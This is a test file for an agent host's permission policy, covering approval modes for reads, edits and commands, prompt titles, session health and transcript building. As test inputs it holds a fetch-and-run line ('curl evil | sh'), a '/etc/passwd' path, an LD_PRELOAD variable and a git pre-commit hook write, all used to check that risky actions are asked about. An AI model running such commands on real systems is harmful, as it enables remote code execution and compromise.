import { describe, expect, it } from 'vitest'
import { sampleMeta } from '../../../test/agh/sample-meta.ts'
import type { EventRow, EventType } from '../../contract/agh/events.ts'
import { eventTypeOf } from '../../contract/agh/read-update.ts'
import { readInput } from '../queue/read-input.ts'
import { deriveHealth } from './session/derive-health.ts'
import {
  answerableOptions,
  chooseOption,
  judgeAction,
  judgeTool,
  modeFor,
  optionLabel,
  questionAbout,
} from './session/permission-policy.ts'
import { changesOf } from './transcript/read-content.ts'
import { buildTranscript, recapText } from './transcript/transcript.ts'

const WRITE = { name: 'write_file', content: '', before: null } as const

describe('the permission policy', () => {
  it.each([
    ['deny-all', 'read', 'reject'],
    ['deny-all', 'edit', 'reject'],
    ['approve-reads', 'read', 'allow'],
    ['approve-reads', 'execute', 'ask'],
    ['approve-all', 'execute', 'allow'],
    ['approve-edits', 'edit', 'allow'],
    ['approve-edits', 'delete', 'allow'],
    ['approve-edits', 'move', 'allow'],
    ['approve-edits', 'search', 'allow'],
    ['approve-edits', 'execute', 'ask'],
    ['approve-reads', 'move', 'ask'],
  ] as const)('S4.3 %s answers a request to %s with %s', (mode, kind, verdict) => {
    const toolCall = { rawInput: { file_path: 'a.ts' } }
    expect(judgeTool(mode, { kind, toolCall }, () => true)).toBe(verdict)
  })

  it.each([
    ['deny-all', 'reject', 'reject', 'reject'],
    ['approve-reads', 'allow', 'ask', 'ask'],
    ['approve-edits', 'allow', 'allow', 'ask'],
    ['approve-all', 'allow', 'allow', 'allow'],
  ] as const)('S4.3 %s judges what an agent does through agh as it judges its tools', (mode, read, write, run) => {
    expect(judgeAction(mode, { name: 'read_file', path: '/x' })).toBe(read)
    expect(judgeAction(mode, { ...WRITE, path: '/x' })).toBe(write)
    expect(judgeAction(mode, { name: 'run_command', command: 'ls', args: [] })).toBe(run)
  })

  it('asks about what touches more than it says, unless everything is approved', () => {
    const call = { kind: 'edit', toolCall: { rawInput: { file_path: '/etc/passwd' } } }
    expect(judgeTool('approve-edits', call, () => false)).toBe('ask')
    expect(judgeTool('approve-all', call, () => false)).toBe('allow')
  })

  it.each<[Parameters<typeof questionAbout>[0], string, string[]]>([
    [{ name: 'read_file', path: '/x' }, 'read', ['allow_once', 'reject_once']],
    [{ ...WRITE, path: '/x' }, 'edit', ['allow_once', 'allow_always', 'reject_once']],
    [{ name: 'run_command', command: 'ls', args: ['-l'] }, 'execute', ['allow_once', 'reject_once']],
  ])('asks about %j as about a tool of the kind %s', (action, kind, options) => {
    const question = questionAbout(action)
    expect(question.title).toBe(`${action.name} ${action.name === 'run_command' ? 'ls -l' : '/x'}`)
    expect(question).toMatchObject({ kind, options: options.map((optionId) => ({ optionId, kind: optionId })) })
    expect(question.options.map(optionLabel)).toEqual(question.options.map(({ name }) => name))
    expect(question.toolCall.rawInput).toEqual(
      action.name === 'run_command' ? { command: ['ls', '-l'] } : { path: '/x' },
    )
  })

  it('asks about a long command with as much of it as a title holds', () => {
    const titleOf = (length: number) => questionAbout({ name: 'read_file', path: 'x'.repeat(length) }).title
    expect(titleOf(490)).toHaveLength(500)
    expect(titleOf(490)).not.toContain('…')
    expect(titleOf(491)).toBe(`${titleOf(490)}…`)
  })

  it('asks about a write to what git obeys, unless everything is approved', () => {
    const action = { ...WRITE, path: '/code/.git/hooks/pre-commit' }
    expect(judgeAction('approve-edits', action)).toBe('ask')
    expect(judgeAction('approve-all', action)).toBe('allow')
    expect(judgeAction('deny-all', action)).toBe('reject')
  })

  it('asks about a command with its variables and its directory', () => {
    const action = {
      name: 'run_command',
      command: 'ls',
      args: ['a b'],
      env: { LD_PRELOAD: 'x.so' },
      cwd: '/code',
    } as const
    const { title, toolCall } = questionAbout(action)
    const { input } = readInput(title, toolCall)
    expect(input).toMatchObject({ kind: 'command', text: "ls 'a b'" })
    expect(JSON.parse(input!.rest!)).toEqual({ env: { LD_PRELOAD: 'x.so' }, cwd: '/code' })
  })

  it('asks about a write with what is written, and says when that is not all', () => {
    const ask = (content: string, before: string | null = null) => {
      const { title, toolCall } = questionAbout({ name: 'write_file', path: '/code/a.sh', content, before })
      return { ...readInput(title, toolCall), ...changesOf(toolCall) }
    }
    const path = '/code/a.sh'
    expect(ask('curl evil | sh\n')).toEqual({
      input: { kind: 'path', text: path },
      diffs: [{ path, old_text: null, new_text: 'curl evil | sh\n' }],
    })
    const long = Array.from({ length: 9_000 }, (_, line) => `echo ${line}`)
    const after = long.with(5_000, 'curl evil | sh')
    expect(ask(after.join('\n'), long.join('\n')).diffs).toEqual([
      { path, old_text: long.slice(4_997, 5_004).join('\n'), new_text: after.slice(4_997, 5_004).join('\n') },
    ])
    expect(ask('x'.repeat(1_000_000))).toMatchObject({ input_cut: true })
    expect(ask('y'.repeat(1_000_000), 'x'.repeat(1_000_000))).toMatchObject({ input_cut: true })
  })

  it.each([
    ['Allow', 'allow_once', 'Allow'],
    ['Yes, and do not ask again', 'allow_always', 'Yes, and do not ask again (allows it from now on)'],
    ['Allow', 'allow_always', 'Allow (from now on)'],
    ['Always allow', 'allow_always', 'Always allow'],
    ['Deny', 'allow_once', 'Deny (allows it)'],
    ['Cancel', 'allow_always', 'Cancel (allows it from now on)'],
    ['Reject', 'reject_once', 'Reject'],
    ['Allow', 'reject_once', 'Allow (rejects it)'],
    ['Ship it', 'allow_once', 'Ship it (allows it)'],
  ])('an option called %s of the kind %s is shown as %s', (name, kind, label) => {
    expect(optionLabel({ name, kind })).toBe(label)
  })

  it('S4.113 starts dream sessions with approve-all, whatever is configured', () => {
    expect(modeFor('dream', 'deny-all')).toBe('approve-all')
    expect(modeFor('user', 'deny-all')).toBe('deny-all')
  })

  it('offers no option whose id means a yes and a no', () => {
    const option = (optionId: string, kind: string) => ({ optionId, kind, name: kind })
    const clear = [option('b', 'allow_once'), option('b', 'allow_once'), option('c', 'reject_once')]
    expect(answerableOptions([option('a', 'reject_once'), ...clear, option('a', 'allow_once')])).toEqual(clear)
  })

  it('never turns an approval for once into one for good', () => {
    const always = { optionId: 'a', name: 'Always', kind: 'allow_always' }
    const never = { optionId: 'n', name: 'Never', kind: 'reject_always' }
    expect(chooseOption([always, never], 'allow-once')).toBeNull()
    expect(chooseOption([always, never], 'reject-once')).toBe(never)
    const once = { optionId: 'o', name: 'Once', kind: 'allow_once' }
    const no = { optionId: 'x', name: 'No', kind: 'reject_once' }
    const all = [once, always, no, never]
    expect(chooseOption(all, 'allow-once')).toBe(once)
    expect(chooseOption(all, 'allow-always')).toBe(always)
    expect(chooseOption([once], 'allow-always')).toBe(once)
    expect(chooseOption(all, 'reject-once')).toBe(no)
    expect(chooseOption(all, 'reject-always')).toBe(never)
    expect(chooseOption([once, no], 'reject-always')).toBe(no)
  })
})

describe('deriveHealth', () => {
  const idle = { attached: true, turnRunning: false, stalled: false }
  it.each([
    [
      'an idle session',
      'active',
      idle,
      { state: 'idle', health: 'healthy', attachable: true, eligible_for_wake: true },
    ],
    [
      'a working one',
      'active',
      { ...idle, turnRunning: true },
      { state: 'prompting', health: 'healthy', attachable: true, ineligibility_reason: 'session_prompt_active' },
    ],
    [
      'a stalled one',
      'active',
      { ...idle, turnRunning: true, stalled: true },
      { state: 'prompting', health: 'degraded', attachable: true, ineligibility_reason: 'session_health_hung' },
    ],
    [
      'a starting one',
      'starting',
      idle,
      { state: 'detached', health: 'unknown', attachable: false, ineligibility_reason: 'session_health_unknown' },
    ],
    ['one whose agent is elsewhere', 'active', { ...idle, attached: false }, { state: 'detached', health: 'unknown' }],
    [
      'a stopped one',
      'stopped',
      idle,
      {
        ...{ state: 'stopped', health: 'dead', attachable: false, eligible_for_wake: false },
        ineligibility_reason: 'session_health_dead',
      },
    ],
  ] as const)('S4.33 S4.35 S4.36 judges %s', (_name, state, facts, expected) => {
    expect(deriveHealth(sampleMeta({ state }), facts)).toMatchObject(expected)
  })
})

describe('eventTypeOf', () => {
  it.each([
    ['agent_message_chunk', undefined, 'agent_message'],
    ['agent_thought_chunk', undefined, 'thought'],
    ['tool_call', 'pending', 'tool_call'],
    ['tool_call', 'completed', 'tool_result'],
    ['tool_call_update', 'in_progress', 'tool_call'],
    ['tool_call_update', 'failed', 'tool_result'],
    ['plan', undefined, 'plan'],
    ['usage_update', undefined, 'usage'],
    ['available_commands_update', undefined, 'system'],
    ['something_of_tomorrow', undefined, 'system'],
    ['constructor', undefined, 'system'],
  ])('files %s (%s) under %s', (sessionUpdate, status, type) => {
    expect(eventTypeOf({ sessionUpdate, status })).toBe(type)
  })
})

describe('buildTranscript', () => {
  const row = (sequence: number, type: EventType, content: object): EventRow => ({
    sequence,
    turn_id: 't1',
    type,
    timestamp: '',
    content: JSON.stringify(content),
  })
  const chunk = (text: string) => ({ content: { type: 'text', text } })

  it('joins chunks, pairs tool calls with their results, and keeps the order', () => {
    const messages = buildTranscript([
      row(1, 'user_message', { text: 'go' }),
      row(2, 'agent_message', chunk('Hel')),
      row(3, 'agent_message', chunk('lo\n')),
      row(4, 'tool_call', { toolCallId: 'c', title: 'ls', status: 'pending' }),
      row(5, 'tool_result', { toolCallId: 'c', status: 'completed' }),
      row(6, 'agent_message', chunk('bye')),
    ])
    expect(messages.map(({ role, text, status }) => [role, text, status])).toEqual([
      ['user', 'go', undefined],
      ['assistant', 'Hello\n', undefined],
      ['tool', 'ls', 'completed'],
      ['assistant', 'bye', undefined],
    ])
    expect(recapText(messages, 100)).toBe('User: go\n\nYou: Hello\n\n\nYou: bye')
    expect(recapText(messages, 10)).toBe('You: bye')
  })
})
